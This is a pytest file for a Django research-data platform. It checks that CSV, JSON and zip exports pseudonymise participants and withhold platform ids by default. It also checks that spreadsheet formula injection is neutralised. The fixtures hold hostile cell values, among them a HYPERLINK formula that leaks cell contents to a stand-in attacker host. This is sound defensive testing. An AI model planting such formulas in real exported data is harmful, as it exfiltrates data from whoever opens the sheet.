"""Exports and bundles name participants by a pseudonym (a keyed hash), never by their session
token, carry platform ids only when asked, and neutralise cells a spreadsheet would run."""

import csv
import hashlib
import hmac
import io
import json
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from django.core.management import call_command
from django.db import connection
from django.urls import reverse

from analysis import bundle, export_services, exports, services
from elicitation.models import Participant, Response, Stimulus, Study
from jobs.models import Job
from tests.conftest import answer_all_trials, categorical_answer, token_client
from tests.factories import UserFactory

pytestmark = pytest.mark.django_db

# Issue 10, finding 8: a PROLIFIC_PID that a spreadsheet runs as a formula.
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
HOSTILE_IDS = {"p1": HYPERLINK, "p2": "+41 cmd", "p3": "@SUM(1+1)"}
HOSTILE_KEYS = ["-2+3.png", "\tx.png", "plain.png"]


def _bytes(chunks: Any) -> bytes:
    return b"".join(c.encode() if isinstance(c, str) else bytes(c) for c in chunks)


def _csv(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode())))


@pytest.fixture
def hostile_study(make_study: Callable[..., Study]) -> Study:
    study = make_study(n_stimuli=3, batch_size=3, repeats=0, participants_per_batch=3)
    for pid in HOSTILE_IDS:
        answer_all_trials(study, pid, lambda _trial: categorical_answer(), rt_ms=5)
    for pid, hostile in HOSTILE_IDS.items():
        Participant.objects.filter(study=study, external_id=pid).update(external_id=hostile)
    for stimulus, key in zip(study.stimuli.order_by("id"), HOSTILE_KEYS, strict=True):
        Stimulus.objects.filter(id=stimulus.id).update(key=key)
    classes = list(study.classes)
    classes[classes.index("Cat")] = "-Cat"  # a class name a spreadsheet would compute
    Study.objects.filter(id=study.id).update(classes=classes)
    study.refresh_from_db()
    services.study_aggregate(study=study)
    return study


def _expected_pseudonym(participant: Participant, key: str, external_id: str | None = None) -> str:
    external_id = participant.external_id if external_id is None else external_id
    message = f"{participant.study_id}\x1f{participant.platform}\x1f{external_id}"
    return hmac.new(key.encode(), message.encode(), hashlib.sha256).hexdigest()[:16]


# --- CSV formula injection ------------------------------------------------------------------------


@pytest.mark.parametrize("use_copy", [True, False])
def test_a_formula_in_a_platform_id_or_stimulus_key_is_neutralised_in_csv(
    hostile_study: Study, use_copy: bool, monkeypatch: pytest.MonkeyPatch
) -> None:
    # given the database (COPY) path or the portable Python path
    if not use_copy:
        monkeypatch.setattr(exports, "uses_copy", lambda: False)
    # when
    rows = _csv(
        _bytes(
            exports.export_stream(study=hostile_study, what="responses", fmt="csv", raw_ids=True)
        )
    )
    # then every cell that would run is prefixed with a single quote, and only those
    assert {r["external_id"] for r in rows} == {"'" + v for v in HOSTILE_IDS.values()}
    assert {r["stimulus"] for r in rows} == {"'-2+3.png", "'\tx.png", "plain.png"}
    assert {(r["top_class"], r["second_class"]) for r in rows} == {("'-Cat", "Dog")}


def test_the_copy_and_python_paths_write_the_same_neutralised_bytes(
    hostile_study: Study,
) -> None:
    # given
    until = exports.export_until(study=hostile_study, what="responses")
    # when
    copied = _bytes(
        exports.export_stream(study=hostile_study, what="responses", fmt="csv", raw_ids=True)
    )
    python = _bytes(
        exports.responses_python(study=hostile_study, fmt="csv", until=until, raw_ids=True)
    )
    # then
    assert copied == python
    assert b'"\'=HYPERLINK(""https://evil.example/' in copied
    assert b",=HYPERLINK" not in copied
    assert b',"=HYPERLINK' not in copied


@pytest.mark.parametrize(
    ("what", "fmt"),
    [
        ("annotation-soft-labels", "csv"),
        ("annotation-soft-labels", "npy-index"),
        ("soft-labels", "csv"),
        ("soft-labels", "npy-index"),
    ],
)
def test_label_csvs_neutralise_stimulus_keys(hostile_study: Study, what: str, fmt: str) -> None:
    # when
    rows = _csv(_bytes(exports.export_stream(study=hostile_study, what=what, fmt=fmt)))
    # then
    assert {r["stimulus"] for r in rows} == {"'-2+3.png", "'\tx.png", "plain.png"}


def test_analysis_csv_neutralises_text_but_not_negative_numbers() -> None:
    # given (pure: csv_safe is applied to every text cell of the Python writers)
    cells = ["=1+1", "+1", "-1", "@x", "\tx", "\rx", "x=1", "", -1.5, -3]
    # when
    safe = [exports.csv_safe(c) for c in cells]
    # then
    assert safe == ["'=1+1", "'+1", "'-1", "'@x", "'\tx", "'\rx", "x=1", "", -1.5, -3]


def test_the_bundle_csvs_are_neutralised(hostile_study: Study) -> None:
    # given
    buf = io.BytesIO()
    # when
    bundle.bundle_write(study=hostile_study, fh=buf, raw_ids=True)
    # then
    zf = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
    root = f"{hostile_study.slug}-dataset"
    responses = _csv(zf.read(f"{root}/responses.csv"))
    assert {r["external_id"] for r in responses} == {"'" + v for v in HOSTILE_IDS.values()}
    for name in ("soft-labels.csv", "soft-labels.index.csv"):
        assert {r["stimulus"] for r in _csv(zf.read(f"{root}/{name}"))} == {
            "'-2+3.png",
            "'\tx.png",
            "plain.png",
        }


# --- pseudonyms -----------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["csv", "jsonl", "json"])
@pytest.mark.parametrize("use_copy", [True, False])
def test_responses_name_participants_by_pseudonym_without_platform_ids(
    hostile_study: Study, fmt: str, use_copy: bool, monkeypatch: pytest.MonkeyPatch, settings: Any
) -> None:
    # given
    if not use_copy:
        monkeypatch.setattr(exports, "uses_copy", lambda: False)
    participants = list(Participant.objects.filter(study=hostile_study))
    # when
    body = _bytes(exports.export_stream(study=hostile_study, what="responses", fmt=fmt))
    # then: the keyed hash of each one's platform id when they arrived (stored then, so it
    # stays put), and no token, platform id or session URL anywhere
    pseudonyms = {p.pseudonym for p in participants}
    original = {hostile: pid for pid, hostile in HOSTILE_IDS.items()}
    assert pseudonyms == {
        _expected_pseudonym(p, settings.HMIX_PSEUDONYM_KEY, original[p.external_id])
        for p in participants
    }
    assert len(pseudonyms) == 3
    if fmt == "csv":
        rows = _csv(body)
        assert {r["participant"] for r in rows} == pseudonyms
        assert {r["external_id"] for r in rows} == {""}
    else:
        lines = body.decode().splitlines() if fmt == "jsonl" else None
        records = (
            [json.loads(line) for line in lines]
            if lines is not None
            else json.loads(body)["responses"]
        )
        assert {r["participant"] for r in records} == pseudonyms
        assert {r["external_id"] for r in records} == {None}
    for p in participants:
        assert str(p.token).encode() not in body
        assert p.token.hex.encode() not in body
    for hostile in HOSTILE_IDS.values():
        assert hostile.encode() not in body
    assert b"/p/" not in body


def test_the_pseudonym_is_stable_and_differs_between_studies(
    make_study: Callable[..., Study],
) -> None:
    # given the same Prolific worker in two studies
    first, second = make_study(), make_study()
    a = answer_all_trials(first, "SAMEPID", lambda _t: categorical_answer())
    b = answer_all_trials(second, "SAMEPID", lambda _t: categorical_answer())
    # when exported twice
    once = _csv(_bytes(exports.export_stream(study=first, what="responses", fmt="csv")))
    again = _csv(_bytes(exports.export_stream(study=first, what="responses", fmt="csv")))
    # then
    assert {r["participant"] for r in once} == {r["participant"] for r in again} == {a.pseudonym}
    assert len(a.pseudonym) == 16
    assert a.pseudonym != b.pseudonym


def test_a_participant_written_around_the_services_gets_its_pseudonym_on_export(
    hostile_study: Study, settings: Any
) -> None:
    # given a row whose pseudonym is empty (as bulk SQL fixtures insert them)
    with connection.cursor() as cursor:
        cursor.execute(
            "UPDATE elicitation_participant SET pseudonym = '' WHERE study_id = %s",
            [hostile_study.id],
        )
    # when
    rows = _csv(_bytes(exports.export_stream(study=hostile_study, what="responses", fmt="csv")))
    # then
    participants = list(Participant.objects.filter(study=hostile_study))
    assert {r["participant"] for r in rows} == {p.pseudonym for p in participants}
    assert all(
        p.pseudonym == _expected_pseudonym(p, settings.HMIX_PSEUDONYM_KEY) for p in participants
    )


@pytest.mark.parametrize("use_copy", [True, False])
def test_an_imported_rows_raw_subject_is_only_in_raw_id_exports(
    use_copy: bool, monkeypatch: pytest.MonkeyPatch
) -> None:
    # given a legacy import (its raw rows carry the subject id), exported by either path
    if not use_copy:
        monkeypatch.setattr(exports, "uses_copy", lambda: False)
    from elicitation.legacy_services import legacy_import
    from tests import legacy_fixtures as fx

    owner = UserFactory(username="admin", is_superuser=True)
    study = legacy_import(
        study_slug="c10s", fmt="cifar10s", source=fx.lines(fx.cifar10s_csv()), owner=owner
    ).study
    # when
    plain = _bytes(exports.export_stream(study=study, what="responses", fmt="jsonl"))
    raw = _bytes(exports.export_stream(study=study, what="responses", fmt="jsonl", raw_ids=True))
    # then
    assert b"subj-alpha-01" not in plain
    assert {json.loads(line)["raw"].get("subject") for line in plain.splitlines()} == {None}
    assert {json.loads(line)["raw"]["subject"] for line in raw.splitlines()} == {
        "subj-alpha-01",
        "subj-bravo-02",
        "subj-charlie-03",
    }


def test_the_bundle_holds_no_token_and_says_how_participants_are_named(
    hostile_study: Study,
) -> None:
    # given
    buf = io.BytesIO()
    # when
    bundle.bundle_write(study=hostile_study, fh=buf)
    # then
    zf = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
    everything = b"".join(zf.read(name) for name in zf.namelist())
    for p in Participant.objects.filter(study=hostile_study):
        assert str(p.token).encode() not in everything
        assert p.external_id.encode() not in everything
    root = f"{hostile_study.slug}-dataset"
    readme = zf.read(f"{root}/README.md").decode()
    assert "their platform ids are not in this bundle" in readme
    assert "keyed hash" in readme
    assert {r["participant"] for r in _csv(zf.read(f"{root}/responses.csv"))} == set(
        Participant.objects.filter(study=hostile_study).values_list("pseudonym", flat=True)
    )


# --- the raw-ids option at every door -------------------------------------------------------------


def test_the_command_writes_platform_ids_only_with_raw_ids(
    hostile_study: Study, tmp_path: Path
) -> None:
    # when
    plain, raw = tmp_path / "plain.csv", tmp_path / "raw.csv"
    call_command(
        "export", study=hostile_study.slug, what="responses", format="csv", out=plain,
        stdout=io.StringIO(),
    )  # fmt: skip
    call_command(
        "export", "--raw-ids", study=hostile_study.slug, what="responses", format="csv", out=raw,
        stdout=io.StringIO(),
    )  # fmt: skip
    # then
    assert {r["external_id"] for r in _csv(plain.read_bytes())} == {""}
    assert {r["external_id"] for r in _csv(raw.read_bytes())} == {
        "'" + v for v in HOSTILE_IDS.values()
    }


def test_the_rest_export_writes_platform_ids_only_with_raw_ids(hostile_study: Study) -> None:
    # given
    client = token_client(hostile_study.owner)
    url = reverse("api:export", kwargs={"slug": hostile_study.slug})
    # when
    plain = b"".join(client.get(url, {"what": "responses", "format": "csv"}).streaming_content)
    raw = b"".join(
        client.get(url, {"what": "responses", "format": "csv", "raw_ids": "true"}).streaming_content
    )
    bad = client.get(url, {"what": "responses", "format": "csv", "raw_ids": "perhaps"})
    # then
    assert {r["external_id"] for r in _csv(plain)} == {""}
    assert {r["external_id"] for r in _csv(raw)} == {"'" + v for v in HOSTILE_IDS.values()}
    assert bad.status_code == 400
    assert bad.json()["message"] == "raw_ids: Must be a valid boolean."


@pytest.mark.parametrize("raw_ids", [False, True])
def test_the_export_job_keeps_the_raw_ids_choice(
    hostile_study: Study, raw_ids: bool, django_capture_on_commit_callbacks: Any
) -> None:
    # given
    client = token_client(hostile_study.owner)
    url = reverse("api:export-job-create", kwargs={"slug": hostile_study.slug})
    # when
    with django_capture_on_commit_callbacks(execute=True):
        res = client.post(
            url, {"what": "responses", "format": "csv", "raw_ids": raw_ids}, format="json"
        )
    # then
    assert res.status_code == 202
    job = Job.objects.get()
    assert (job.status, job.params["raw_ids"]) == (Job.Status.DONE, raw_ids)
    with job.result.open("rb") as fh:
        ids = {r["external_id"] for r in _csv(fh.read())}
    assert ids == ({"'" + v for v in HOSTILE_IDS.values()} if raw_ids else {""})


def test_the_bundle_job_keeps_the_raw_ids_choice(hostile_study: Study) -> None:
    # given
    job = export_services.bundle_job_create(
        study=hostile_study, owner_id=hostile_study.owner_id, raw_ids=True
    )
    # when
    job = export_services.bundle_job_run(job=job)
    # then
    assert job.status == Job.Status.DONE
    with job.result.open("rb") as fh:
        zf = zipfile.ZipFile(io.BytesIO(fh.read()))
    root = f"{hostile_study.slug}-dataset"
    assert {r["external_id"] for r in _csv(zf.read(f"{root}/responses.csv"))} == {
        "'" + v for v in HOSTILE_IDS.values()
    }
    assert "This bundle ALSO holds their platform ids" in zf.read(f"{root}/README.md").decode()
    assert Response.objects.filter(study=hostile_study).count() == 9
